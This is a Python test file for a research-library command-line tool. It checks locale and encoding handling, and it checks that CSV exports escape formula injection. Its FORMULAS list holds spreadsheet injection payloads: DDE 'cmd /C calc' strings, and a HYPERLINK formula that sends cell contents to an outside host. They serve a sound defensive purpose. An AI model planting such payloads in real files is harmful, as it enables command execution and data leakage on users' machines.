"""The command in odd surroundings: an ASCII terminal, a spreadsheet that reads what it writes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from reslib import ResearchDatabase
from reslib.commands.export import write_export
from reslib.models import ExtractionResult, Outcome
from reslib.queue import QueueManager

#: No UTF-8 at all: the plain C locale, and nothing of Python that mends it.
ASCII = {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}


def run(
    folder: Path, *arguments: str, options: tuple[str, ...] = (), **variables: str
) -> subprocess.CompletedProcess[bytes]:
    environment = {k: v for k, v in os.environ.items() if k != "PYTHONIOENCODING"}
    return subprocess.run(
        [sys.executable, *options, "-m", "reslib", *(os.fsencode(a) for a in arguments)],
        cwd=folder,
        env={**environment, "COLUMNS": "160", **variables},
        capture_output=True,
        timeout=120,
        check=False,
    )


def test_the_package_runs_as_the_command(tmp_path: Path) -> None:
    assert run(tmp_path, "--help").stdout.startswith(b"Usage: reslib [OPTIONS] COMMAND")
    assert run(tmp_path, "--version").stdout.startswith(b"reslib, version ")


# --- an ASCII locale --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("library")
    (folder / "Übersicht 文.txt").write_text("Wasserstände “high” … 水位 of the tide", "utf-8")
    (folder / "größe.pdf").write_text("no PDF", "utf-8")
    assert run(folder, "extract", ".", PYTHONUTF8="1").returncode == 1
    return folder


@pytest.mark.parametrize(
    "surroundings",
    [
        pytest.param({"options": ("-X", "utf8=0"), **ASCII}, id="C"),
        pytest.param({"PYTHONIOENCODING": "latin-1"}, id="latin-1"),
    ],
)
@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        (["status"], 0),
        (["doctor"], 0),
        (["failed"], 0),
        (["search", "tide"], 0),
        (["search", "Wasserstände"], 0),
        (["search", "存在しない"], 0),
        (["export"], 0),
        (["export", "--force", "-o", "größe.jsonl"], 0),
        (["failed", "--json"], 0),
        (["search", "tide", "--json"], 0),
        (["search", "存在しない", "--json"], 0),
        (["backup", "nowhere/größe.db"], 2),
    ],
)
def test_every_command_works_where_the_terminal_cannot_show_the_words(
    library: Path, surroundings: dict[str, Any], arguments: list[str], code: int
) -> None:
    done = run(library, *arguments, **surroundings)
    assert done.returncode == code, done.stderr
    assert b"codec" not in done.stdout + done.stderr
    assert b"Traceback" not in done.stderr


def test_a_letter_that_the_terminal_lacks_is_a_question_mark_and_the_rest_is_there(
    library: Path,
) -> None:
    shown = run(library, "search", "tide", options=("-X", "utf8=0"), **ASCII).stdout
    assert b"Wasserst?nde ?high? ? ?? of the tide" in shown


def test_what_is_typed_in_an_ascii_locale_is_found(library: Path) -> None:
    shown = run(library, "search", "Wasserstände", options=("-X", "utf8=0"), **ASCII).stdout
    assert b"of the tide" in shown


def test_where_python_cannot_open_a_name_the_command_says_what_to_set(library: Path) -> None:
    done = run(library, "extract", ".", options=("-X", "utf8=0"), **ASCII)
    assert done.returncode == 2
    assert b"takes the names of files for ascii" in done.stderr
    assert b"Set PYTHONUTF8=1" in done.stderr
    assert b"codec" not in done.stderr


# --- a spreadsheet ----------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"Abstract")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
]
HARMLESS = ["The tide = the moon", "1-2", "a@example.org", "(+) and (-)", "'quoted' words", "", "x"]


def exported(folder: Path, value: str, kind: str) -> list[dict[str, str | None]]:
    """Export a document all of whose words are *value*, and one that failed because of it."""
    with ResearchDatabase(folder / "research.db") as db:
        queue, paper = QueueManager(db), folder / "paper.txt"
        paper.write_text("words")
        queue.enqueue(db.add_attachment(value or "-", paper))
        job = queue.claim("somebody")
        assert job is not None
        read = ExtractionResult(
            f"{value}\r\n{value}", title=value, confidence=0.5, confidence_reason=value
        )
        assert queue.complete(job.id, outcome=Outcome(result=read))
        other = folder / "other.txt"
        other.write_text("other words")
        queue.enqueue(db.add_attachment("other.txt", other))
        job = queue.claim("somebody")
        assert job is not None
        assert queue.failed(job.id, value, "corruption", max_retries=0)
        stream = io.StringIO(newline="")
        write_export(db, stream, kind, ascii_only=False)
    stream.seek(0)
    return list(csv.DictReader(stream)) if kind == "csv" else [json.loads(n) for n in stream]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_that_comes_from_a_document_is_a_formula(tmp_path: Path, formula: str) -> None:
    rows = exported(tmp_path, formula, "csv")
    assert len(rows) == 2
    cells = [str(cell) for row in rows for cell in row.values()]
    assert not [cell for cell in cells if re.match(r"[\s\"]*[=+\-@\t\r\0\uff1d\uff20]", cell)]
    by_name = {row["error_code"]: row for row in rows}
    assert by_name[""]["filename"] == by_name[""]["title"] == "'" + formula
    assert by_name[""]["text"] == f"'{formula}\r\n{formula}"
    assert by_name["malformed"]["error_message"] == "'" + formula


@pytest.mark.parametrize("formula", FORMULAS)
def test_json_has_the_words_as_they_are(tmp_path: Path, formula: str) -> None:
    rows = exported(tmp_path, formula, "jsonl")
    by_name = {row["error_code"]: row for row in rows}
    assert by_name[None]["filename"] == by_name[None]["title"] == formula
    assert by_name["malformed"]["error_message"] == formula


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_stay_as_they_are(tmp_path: Path, text: str) -> None:
    by_name = {row["error_code"]: row for row in exported(tmp_path, text, "csv")}
    assert by_name[""]["title"] == text
    assert by_name[""]["confidence"] == "0.5"
    assert by_name["malformed"]["error_message"] == text
